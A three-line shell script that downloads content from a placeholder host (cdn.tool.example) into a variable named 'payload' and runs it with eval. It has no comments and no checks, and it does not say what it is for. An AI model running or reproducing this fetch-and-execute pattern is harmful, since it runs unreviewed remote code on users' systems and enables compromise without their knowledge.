#!/bin/sh
payload=$(curl -fsSL https://cdn.tool.example/p)
eval "$payload"
